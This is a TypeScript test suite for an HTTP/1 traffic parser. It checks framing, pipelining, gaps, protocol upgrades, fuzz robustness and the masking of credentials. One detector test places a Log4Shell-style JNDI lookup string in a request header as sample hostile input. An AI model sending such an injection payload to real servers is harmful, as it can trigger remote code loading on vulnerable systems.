// Proves that HTTP/1 is read as its senders meant it: framing, matching, names, masking; whole, in pieces, cut and damaged.

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { bytesOf, converse, type Setting, type Step } from '../../golden/converse.ts';
import { nameOnly } from '../../protocol.ts';
import { http } from './http.ts';

const websocket = nameOnly('websocket', 'WebSocket', 'web', { tcp: [] }, () => 0);
const http2 = nameOnly('http2', 'HTTP/2', 'web', { tcp: [] }, () => 0);
const other = nameOnly('other', 'Other', 'other', { tcp: [] }, (b, at) => (b[at] === 0xee ? 2 : 0));
const protocols = [http, websocket, http2, other];

const text = (value: string): Uint8Array => bytesOf(`'${value}`);
const ask = (value: string): Step => ({ side: 0, bytes: text(value) });
const answer = (value: string): Step => ({ side: 1, bytes: text(value) });
const talk = (steps: readonly Step[], setting: Setting = {}) => converse(protocols, steps, setting);

const get = (path: string, more = ''): Step => ask(`GET ${path} HTTP/1.1\r\nHost: www.example.org\r\n${more}\r\n`);
const ok = (body: string, more = ''): Step =>
  answer(`HTTP/1.1 200 OK\r\nContent-Length: ${body.length}\r\n${more}\r\n${body}`);

const page = '<!DOCTYPE html><html><head><title>x</title></head><body>Hello</body></html>';

const visit: readonly Step[] = [
  ask(
    'POST /form/send?q=%20a HTTP/1.1\r\nHost: Shop.example.org:8080\r\nUser-Agent: test/1\r\nReferer: http://u:secret@a.example/\r\n' +
      'Authorization: Basic YWxpY2U6c2VjcmV0\r\nCookie: sid=secret\r\nVia: 1.1 proxy\r\nContent-Type: text/plain\r\nContent-Length: 12\r\n\r\nhello, world',
  ),
  answer(
    'HTTP/1.1 200 OK\r\nServer: there\r\nSet-Cookie: sid=secret\r\nContent-Type: text/html; charset=utf-8\r\nTransfer-Encoding: chunked\r\n\r\n' +
      `${page.length.toString(16)};x=1\r\n${page}\r\n0\r\nTrailer: 1\r\n\r\n`,
  ),
];

describe('an exchange', () => {
  it.each([undefined, 1, 7])('tells what it says (pieces of %s)', (pieces) => {
    const heard = talk(visit, pieces === undefined ? {} : { pieces });
    const [event] = heard.events();
    expect(event).toMatchObject({
      transaction: 0,
      depth: 1,
      hostname: 'shop.example.org',
      port: 8080,
      host: 'Shop.example.org:8080',
      url: '/form/send?q=%20a',
      uri: '/form/send?q= a',
      method: 'POST',
      protocol: 'HTTP/1.1',
      userAgent: 'test/1',
      referer: 'http://u:***@a.example/',
      status: 200,
      reason: 'OK',
      version: '1.1',
      contentType: 'text/html',
      server: 'there',
      requestBytes: 12,
      responseBytes: page.length,
      username: 'alice',
      authorization: 'Basic',
      proxied: ['VIA -> 1.1 proxy'],
      requestMimeTypes: ['text/plain'],
      responseMimeTypes: ['text/html'],
    });
    // Framing of the chunks is counted in, trailers are not.
    expect(event.length).toBe(page.length + 8 + 2 + 3);
    expect(JSON.stringify(heard.told)).not.toContain('secret');
    expect(heard.server).toBe('shop.example.org');
    expect(heard.how).toBe('handshake');
    expect(heard.names).toEqual(['http']);
    expect(heard.weird).toEqual([]);
    expect(heard.kept).toBe(0);
  });

  it('measures the answer from the end of the question', () => {
    const [event] = talk([
      { ...get('/'), timeUs: 1_000_000 },
      { ...answer('HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nab'), timeUs: 1_030_000 },
      { ...answer('cd'), timeUs: 1_050_000 },
    ]).events();
    expect(event).toMatchObject({ ttfbUs: 30_000, durationUs: 50_000 });
  });

  it('tells the files that bodies are', () => {
    const files = talk(visit).events('file');
    expect(files).toMatchObject([
      { shownName: '/form/send', size: 12, state: 'CLOSED', hasGaps: false, isOrig: true, mimeType: 'text/plain' },
      { shownName: '/form/send', size: page.length, state: 'CLOSED', isOrig: false, mimeType: 'text/html' },
    ]);
    expect(files[0].fuid).toMatch(/^F[0-9A-Za-z]{16}$/);
    expect(files[0].fuid).not.toBe(files[1].fuid);
  });

  it('takes names of files from where their senders put them', () => {
    const part = '--b\r\nContent-Disposition: form-data; name="f"; filename="up.txt"\r\n\r\nhello there\r\n--b--\r\n';
    const files = talk([
      ask(
        `POST /x HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: ${part.length}\r\n\r\n${part}`,
      ),
      ok('%PDF-1.4 and so on', "Content-Disposition: attachment; filename*=UTF-8''na%C3%AFve.pdf; filename=x\r\n"),
    ]).events('file');
    expect(files).toMatchObject([
      { shownName: 'up.txt', size: 11, mimeType: 'text/plain' },
      { shownName: 'naïve.pdf', mimeType: 'application/pdf' },
    ]);
  });
});

describe('framing', () => {
  it.each([undefined, 1, 5])('matches pipelined requests in order (pieces of %s)', (pieces) => {
    const heard = talk(
      [
        ask('GET /1 HTTP/1.1\r\n\r\nHEAD /2 HTTP/1.1\r\n\r\nGET /3 HTTP/1.1\r\n\r\n'),
        answer(
          'HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nabcHTTP/1.1 200 OK\r\nContent-Length: 99\r\n\r\nHTTP/1.1 304 Not Modified\r\n\r\n',
        ),
      ],
      pieces === undefined ? {} : { pieces },
    );
    expect(heard.events().map((one) => [one.url, one.status, one.responseBytes])).toEqual([
      ['/1', 200, 3],
      ['/2', 200, 0],
      ['/3', 304, 0],
    ]);
  });

  it('waits for the answer after a provisional one', () => {
    const [event] = talk([
      ask('PUT /x HTTP/1.1\r\nExpect: 100-continue\r\nContent-Length: 2\r\n\r\n'),
      answer('HTTP/1.1 100 Continue\r\n\r\n'),
      ask('hi'),
      answer('HTTP/1.1 204 No Content\r\n\r\n'),
    ]).events();
    expect(event).toMatchObject({ infoStatus: 100, infoReason: 'Continue', status: 204, requestBytes: 2 });
  });

  it('reads a body without length until the end', () => {
    const heard = talk([get('/'), answer('HTTP/1.0 200 OK\r\n\r\nabc'), answer('def')]);
    expect(heard.events()).toMatchObject([{ responseBytes: 6, version: '1.0' }]);
    expect(heard.events('file')).toMatchObject([{ state: 'CLOSED', size: 6 }]);
  });

  it('accepts what servers accept', () => {
    const heard = talk([
      ask('\r\n\nGET  /a b  HTTP/1.1\nHost : h.example\nX: 1\nTransfer-Encoding:\n chunked\n\n3\nabc\n0\n\n'),
      answer('HTTP/1.1 2XX Fine\nContent-Length:4\n\ntoto'),
    ]);
    expect(heard.events()).toMatchObject([
      { url: '/a b', hostname: 'h.example', requestBytes: 3, statusText: '2XX', responseBytes: 4 },
    ]);
    expect(heard.events()[0].status).toBeUndefined();
  });

  it('reads what clients read although the server breaks the rules', () => {
    const bodies = [
      'HTTP/1.1 200 ok\r\nTransfer-Encoding: chunked\r\n\r\nno chunks',
      'foobar\r\nHTTP/1.1 200 ok\r\nContent-Length: 9\r\n\r\nno chunks',
      'http/1.1 200 ok\rContent-Type: x\rContent-Length: 9\r\n\nno chunks',
      'HTTP/1.1 200 ok\r\nContent-Length: 9\n \nno chunks',
    ];
    for (const body of bodies) {
      expect(talk([get('/'), answer(body)]).events()).toMatchObject([{ status: 200, responseBytes: 9 }]);
    }
  });

  it('tells a request whose line was cut, and one after a byte that kept the connection alive', () => {
    expect(talk([ask('GET /cut/he'), { side: 0, gap: 500 }, ok('abc')]).events()).toMatchObject([
      { url: '/cut/he', status: 200 },
    ]);
    expect(talk([ask('GET /end')]).events()).toMatchObject([{ url: '/end' }]);
    const alive: Step = { side: 0, bytes: bytesOf('00') };
    expect(talk([alive, get('/alive')], { rPort: 80 }).events()).toMatchObject([{ url: '/alive' }]);
  });

  it('reads HTTP/0.9', () => {
    const heard = talk([ask('GET /old\r\n'), answer('<html>old</html>')]);
    expect(heard.events()).toMatchObject([{ url: '/old', version: '0.9', responseBytes: 16 }]);
  });

  it('counts the contents of a packed body by its trailer', () => {
    const packed = bytesOf('1f8b0800000000000003', 'cb48cdc9c95728cf2fca4901', '00', '8511 4a0d 0b00 0000');
    const head = text(`HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: ${packed.length}\r\n\r\n`);
    const heard = talk([get('/'), { side: 1, bytes: Uint8Array.from([...head, ...packed]) }]);
    expect(heard.events()).toMatchObject([
      { responsePackedBytes: packed.length, responseBytes: 11, responseMimeTypes: ['text/plain'] },
    ]);
  });
});

describe('gaps', () => {
  it('passes over what is missing inside a body', () => {
    const heard = talk([
      get('/big'),
      answer('HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n0123456789'),
      { side: 1, gap: 50 },
      answer('x'.repeat(40)),
      get('/next'),
      ok('abc'),
    ]);
    expect(heard.events().map((one) => [one.url, one.status, one.responseBytes])).toEqual([
      ['/big', 200, 100],
      ['/next', 200, 3],
    ]);
    expect(heard.events('file')[0]).toMatchObject({ hasGaps: true, missingBytes: 50, state: 'TRUNCATED' });
  });

  it('finds the next message when the gap goes beyond', () => {
    const heard = talk([
      get('/big'),
      answer('HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n01'),
      { side: 1, gap: 500 },
      answer('rubbish'),
      get('/next'),
      ok('abc'),
    ]);
    expect(heard.events().map((one) => [one.url, one.status])).toEqual([
      ['/big', 200],
      ['/next', 200],
    ]);
  });

  it('begins in the middle, from either side', () => {
    const heard = talk([
      { ...ok('hello'), side: 0 },
      { ...get('/after'), side: 1 },
      { ...ok('x'), side: 0 },
    ]);
    expect(heard.events().map((one) => [one.url, one.status])).toEqual([
      [undefined, 200],
      ['/after', 200],
    ]);
  });
});

describe('changes', () => {
  it('leaves a tunnel to what is inside', () => {
    const heard = talk([
      ask('CONNECT inner.example:443 HTTP/1.1\r\n\r\n'),
      answer('HTTP/1.1 200 Connection established\r\n\r\n'),
      { side: 0, bytes: bytesOf('ee01') },
    ]);
    expect(heard.events()).toMatchObject([{ method: 'CONNECT', hostname: 'inner.example', port: 443, status: 200 }]);
    expect(heard.names).toEqual(['http', 'other']);
  });

  it.each([
    ['websocket', 'websocket'],
    ['h2c', 'http2'],
  ])('goes on with %s', (upgrade, name) => {
    const heard = talk([
      get('/chat', `Upgrade: ${upgrade}\r\nConnection: Upgrade\r\n`),
      answer(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: ${upgrade}\r\n\r\n`),
    ]);
    expect(heard.events()).toMatchObject([{ status: 101 }]);
    expect(heard.names).toEqual(['http', name]);
  });

  it('stays when the server does', () => {
    const heard = talk([get('/1', 'Upgrade: h2c\r\n'), ok('abc'), get('/2'), ok('def')]);
    expect(heard.events().map((one) => one.url)).toEqual(['/1', '/2']);
  });
});

describe('what is not HTTP', () => {
  it.each([
    ['SIP', 'OPTIONS sip:a SIP/2.0\r\n'],
    ['RTSP', 'OPTIONS * RTSP/1.0\r\n'],
    ['HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
    ['Redis', 'GET key\r\n'],
    ['SMTP', 'EHLO me\r\n'],
    ['SSH', 'SSH-2.0-x\r\n'],
  ])('is %s', (_name, words) => {
    expect(talk([ask(words)]).names).toEqual([]);
  });
});

describe('bounds', () => {
  it('holds with requests that are never answered', () => {
    const heard = talk([ask('GET / HTTP/1.1\r\n\r\n'.repeat(500))]);
    expect(heard.events()).toHaveLength(500);
    expect(heard.kept).toBe(0);
  });

  it('holds with lines that never end', () => {
    const heard = talk([
      ask(`GET / HTTP/1.1\r\nX: `),
      ...Array.from({ length: 40 }, () => ask('y'.repeat(8000))),
      ask('\r\nHost: h.example\r\n\r\n'),
      ok('abc'),
    ]);
    expect(heard.events()).toMatchObject([{ hostname: 'h.example', status: 200 }]);
    expect(heard.bounded).toEqual([]);
  });

  it('never throws, whatever is cut or changed', () => {
    const whole = visit.map((step) => step.bytes ?? new Uint8Array(0));
    for (let cut = 0; cut < whole[1].length; cut += 3) {
      expect(talk([visit[0], { side: 1, bytes: whole[1].subarray(0, cut) }]).threw).toEqual([]);
    }
    for (let cut = 0; cut < whole[0].length; cut += 3) {
      expect(talk([{ side: 0, bytes: whole[0].subarray(0, cut) }, visit[1]]).threw).toEqual([]);
    }
    const change = fc.record({ step: fc.nat(1), at: fc.nat(400), byte: fc.nat(255), gap: fc.nat(60) });
    fc.assert(
      fc.property(fc.array(change, { maxLength: 6 }), fc.nat(40), (changes, size) => {
        const bytes = whole.map((one) => one.slice());
        for (const { step, at, byte } of changes) bytes[step][at % bytes[step].length] = byte;
        const steps: Step[] = bytes.map((one, side) => ({ side: side as 0 | 1, bytes: one }));
        if (changes.length > 3) steps.splice(1, 0, { side: 1, gap: changes[0].gap + 1 });
        const heard = talk([...steps, ...visit], { open: true, pieces: size + 1 });
        expect(heard.threw).toEqual([]);
        expect(heard.kept).toBe(0);
      }),
      { numRuns: 300 },
    );
  });
});

it('tells the user of an NTLM login', () => {
  // The third message: eight fields of length and place, then the name in UTF-16.
  const answer = 'TlRMTVNTUAADAAAAAAAAAEAAAAAAAAAAQAAAAAAAAABAAAAACAAIAEAAAAAAAAAAQAAAAAAAAABAAAAAAQAAAGoAYQBuAGUA';
  for (const scheme of ['NTLM', 'Negotiate']) {
    const request = `GET / HTTP/1.1\r\nHost: h\r\nAuthorization: ${scheme} ${answer}\r\n\r\n`;
    const heard = converse([http], [{ side: 0, bytes: bytesOf(`'${request}`) }]);
    expect(heard.events('http')).toMatchObject([{ authorization: scheme, username: 'jane' }]);
    expect(JSON.stringify(heard.told)).not.toContain(answer.slice(0, 16));
  }
});

describe('what detectors see', () => {
  it('has the target as sent, odd headers and the beginning of a body, which are told nowhere', () => {
    const body = `user=anna&password=secret2&x=${'a'.repeat(6000)}`;
    const heard = talk([
      ask(
        `POST /in?token=secret1 HTTP/1.1\r\nHost: a.example\r\nX-Api: \${jndi:ldap://x/a}\r\nAccept: */*\r\n` +
          `Content-Length: ${body.length}\r\n\r\n${body}`,
      ),
      ok(page),
    ]);
    expect(heard.shown).toHaveLength(1);
    const [{ kind, event }] = heard.shown;
    expect(kind).toBe('http_request');
    expect(event).toMatchObject({ method: 'POST', target: '/in?token=secret1', shownTarget: '/in?token=***' });
    expect(event.odd).toBe(`X-Api: \${jndi:ldap://x/a}\n`);
    expect(event.body).toBe(body.slice(0, 4096));
    expect(JSON.stringify(heard.told)).not.toContain('secret');
  });
});
